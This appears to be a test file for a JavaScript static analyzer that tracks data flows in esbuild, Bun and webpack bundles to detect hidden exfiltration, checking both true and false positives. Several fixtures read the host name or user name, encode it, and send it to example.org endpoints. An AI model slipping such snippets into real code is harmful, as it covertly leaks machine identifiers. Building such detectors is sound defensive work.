// Precision in bundles: a source, a transform and a sink are joined only along a real value path,
// never because unrelated modules of one bundle use the same property names. Fixtures written for
// this project in the shapes esbuild/Bun (CommonJS wrappers) and webpack (module maps) emit.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { significant } from '../helpers/analyze.js';

/** Four unrelated modules: a user name read by an archive library, a host name in a UI footer, base64 of terminal output, a wasm fetch. */
const MODULES: [string, string][] = [
  [
    'node_modules/tarball-kit/lib/header.js',
    `var os = require("os");
    function Header(entry) { this.owner = entry.owner || os.userInfo().username; this.value = this.owner; }
    module.exports = Header;`,
  ],
  [
    'src/ui/status-footer.js',
    `var os = require("os");
    function renderFooter(state) { state.value = "connected to " + os.hostname(); return state.value; }
    module.exports = { renderFooter };`,
  ],
  [
    'src/term/snapshot.js',
    `function snapshot(screen) { return { chunk: Buffer.from(screen.value).toString("base64") }; }
    exports.snapshot = snapshot;`,
  ],
  [
    'src/engine/wasm-loader.js',
    `async function loadEngine(part) {
      const res = await fetch("https://cdn.example.org/engine.wasm", { headers: { range: part.chunk } });
      return WebAssembly.instantiate(await res.arrayBuffer());
    }
    module.exports = loadEngine;`,
  ],
];

const ESBUILD_HELPER = `var __getOwnPropNames = Object.getOwnPropertyNames;
var __commonJS = (cb, mod) => function __require() {
  return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
};
`;

function esbuild(modules: [string, string][]): string {
  return (
    ESBUILD_HELPER +
    modules.map(([path, body], i) => `\n// ${path}\nvar require_m${i} = __commonJS({\n  "${path}"(exports, module) {\n    ${body}\n  }\n});\n`).join('') +
    modules.map((_, i) => `var m${i} = require_m${i}();\n`).join('')
  );
}

/** The same, minified the way Bun and esbuild --minify do: arrow wrappers, short names. */
function minified(modules: [string, string][]): string {
  return (
    'var U=(A,B)=>()=>(B||A((B={exports:{}}).exports,B),B.exports);\n' +
    modules.map(([, body], i) => `var q${i}=U((exports,module)=>{${body.replace(/\n\s*/g, '')}});\n`).join('') +
    modules.map((_, i) => `q${i}();`).join('')
  );
}

function webpack(modules: [string, string][]): string {
  return `(() => { var __webpack_modules__ = ({\n${modules
    .map(([path, body]) => `"./${path}": ((module, exports, __webpack_require__) => {\n  var require = __webpack_require__;\n  ${body}\n})`)
    .join(',\n')}\n});\n})();\n(self.chunks = self.chunks || []).push([[1], [function (e, t, n) { var k = {}; k.value = n(9).hostname(); }, function (e, t, n) { fetch("https://x.example.org/a", { body: Buffer.from(e.value).toString("hex") }); }]]);`;
}

for (const [name, shape] of [
  ['esbuild', esbuild],
  ['minified esbuild/Bun', minified],
  ['webpack', webpack],
] as const) {
  test(`${name} bundle: unrelated modules sharing property names are not hidden exfiltration`, () => {
    const found = significant(shape(MODULES));
    assert.deepEqual(
      found.map((f) => `${f.severity} ${f.ruleId}: ${f.title}`),
      [],
    );
  });
}

test('without module wrappers the same code is one scope: the shared property names do join (what the wrappers prevent)', () => {
  const flat = MODULES.map(([, body]) => `(function (exports, module) {\n${body}\n})({}, { exports: {} });`).join('\n');
  assert.ok(significant(flat).some((f) => f.ruleId === 'hidden-exfiltration'));
});

test('inside one bundled module the mechanism is still found', () => {
  const code = esbuild([
    [
      'src/telemetry/ping.js',
      `var os = require("os");
      function ping(ctx) { ctx.tag = Buffer.from(os.hostname()).toString("base64"); return fetch("https://t.example.org/p", { headers: { "x-tag": ctx.tag } }); }
      module.exports = ping;`,
    ],
  ]);
  const f = significant(code);
  assert.equal(f[0]?.ruleId, 'hidden-exfiltration');
  assert.equal(f[0]?.severity, 'high');
});

test('a module nested in another keeps its own property names: after it, the outer module reads its own again', () => {
  // The outer module reads `.tag` before and after a webpack-style module map whose first module writes an encoded host name to `.tag`.
  const inner = `[function (e, t, n) { var k = {}; k.tag = Buffer.from(require("os").hostname()).toString("base64"); }, function (e, t, n) { t.other = 1; }]`;
  const outer = (innerTag: string) =>
    esbuild([
      [
        'src/outer.js',
        `var s = { tag: "fixed" }; var before = s.tag; var chunk = ${inner};
    ${innerTag}
    module.exports = function send() { return fetch("https://t.example.org/p", { headers: { "x-tag": s.tag, "x-b": before } }); };`,
      ],
    ]);
  assert.deepEqual(significant(outer('')).map((f) => f.ruleId), []);
  // The twin: the outer module itself writes the encoded host name to `.tag`, and it is found.
  assert.equal(significant(outer('s.tag = Buffer.from(require("os").hostname()).toString("base64");'))[0]?.ruleId, 'hidden-exfiltration');
});

test('across bundled modules, a value passed through exports is still followed', () => {
  const code =
    esbuild([
      ['src/id.js', `var os = require("os");\n    exports.machineTag = Buffer.from(os.hostname()).toString("base64");`],
      ['src/send.js', `module.exports = { send(tag) { return fetch("https://t.example.org/p", { headers: { "x-tag": tag } }); } };`],
    ]) + 'm1.send(require_m0().machineTag);\n';
  const f = significant(code);
  assert.equal(f[0]?.ruleId, 'hidden-exfiltration');
});

test('a host name sent in a request shows every step from the read to the request', () => {
  const code = `import os from "os";
function machineName() {
  return os.hostname();
}

export function register() {
  const id = machineName();
  return fetch("https://devices.example.org/register", { method: "POST", body: id });
}
`;
  const f = significant(code).find((x) => x.ruleId === 'fingerprint-sent');
  assert.ok(f, 'expected fingerprint-sent');
  assert.equal(f.severity, 'medium');
  const steps = f.related.map((e) => `${e.role}@${e.location.line}`);
  assert.equal(steps[0], 'source@3');
  assert.equal(steps[steps.length - 1], 'sink@8');
  const flowLines = f.related.filter((e) => e.role === 'flow').map((e) => e.location.line);
  // through machineName's return (2), the call and the binding in register (7)
  for (const line of [2, 7]) assert.ok(flowLines.includes(line), `no flow step at line ${line}: ${steps.join(' ')}`);
  assert.ok(f.related.every((e) => (e.excerpt ?? '').length > 0));
});

test('a read that reaches a request only through a long chain of unrelated objects is not reported as sent', () => {
  // Each hop goes through a property of a different object (field-based: costly steps): no one can check such a path.
  const hops = Array.from({ length: 6 }, (_, i) => `function h${i}(o) { return { ["f${i + 1}"]: 0, f${i + 1}: o.f${i} }; }`).join('\n');
  const code = `import os from "os";
${hops}
const start = { f0: os.userInfo().username };
const end = h5(h4(h3(h2(h1(h0(start))))));
fetch("https://api.example.org/x", { headers: { "x-a": end.f6 } });
`;
  const near = `import os from "os";\nfetch("https://api.example.org/x", { headers: { "x-a": os.userInfo().username } });\n`;
  assert.deepEqual(significant(near).map((x) => x.ruleId), ['fingerprint-sent']);
  assert.deepEqual(significant(code).map((x) => x.ruleId), []);
});
